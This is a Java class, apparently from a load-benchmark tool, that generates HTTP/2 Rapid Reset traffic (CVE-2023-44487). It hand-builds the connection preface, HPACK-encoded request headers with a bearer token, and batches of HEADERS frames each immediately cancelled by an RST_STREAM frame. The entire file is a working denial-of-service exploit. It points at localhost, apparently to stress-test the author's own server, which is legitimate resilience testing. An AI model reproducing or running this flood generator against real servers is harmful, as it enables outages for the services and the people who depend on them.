package dev.keybearer.benchmark.daemon;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import java.nio.charset.StandardCharsets;

/**
 * What a caller of HTTP/2 sends who asks for much and takes all of it back at once
 * (CVE-2023-44487): heads that are whole, each with its reset behind it. For one connection.
 */
final class ResetFlood {
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;
  private static final int CANCEL = 8;

  private static final int SHORT = 127; // what is longer goes on in further octets

  private final byte[] head;
  private int stream = 1;

  ResetFlood(String token) {
    ByteBuf block = Unpooled.buffer();
    block.writeByte(0x82); // :method GET
    block.writeByte(0x87); // :scheme https
    block.writeByte(0x04); // :path, and what follows
    text(block, "/orders/1");
    block.writeByte(0x01); // :authority
    text(block, "localhost");
    block.writeByte(0x0f).writeByte(23 - 0x0f); // authorization
    text(block, "Bearer " + token);
    this.head = new byte[block.readableBytes()];
    block.readBytes(head);
  }

  private static void text(ByteBuf block, String text) {
    int length = text.length();
    block.writeByte(Math.min(length, SHORT));
    if (length >= SHORT) {
      int rest = length - SHORT;
      for (; rest > SHORT; rest >>= 7) {
        block.writeByte((rest & SHORT) | 0x80);
      }
      block.writeByte(rest);
    }
    block.writeCharSequence(text, StandardCharsets.US_ASCII);
  }

  /** How a connection begins. */
  static ByteBuf preface() {
    ByteBuf octets =
        Unpooled.copiedBuffer("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", StandardCharsets.US_ASCII);
    return Unpooled.wrappedBuffer(octets, frame(0, SETTINGS, 0, 0));
  }

  /** So many requests that are taken back. */
  ByteBuf next(int count) {
    ByteBuf all = Unpooled.buffer(count * (head.length + 32));
    for (int i = 0; i < count; i++, stream += 2) {
      all.writeBytes(frame(head.length, HEADERS, END_STREAM | END_HEADERS, stream));
      all.writeBytes(head);
      all.writeBytes(frame(Integer.BYTES, RST_STREAM, 0, stream));
      all.writeInt(CANCEL);
    }
    return all;
  }

  private static ByteBuf frame(int length, int type, int flags, int stream) {
    return Unpooled.buffer(9).writeMedium(length).writeByte(type).writeByte(flags).writeInt(stream);
  }
}
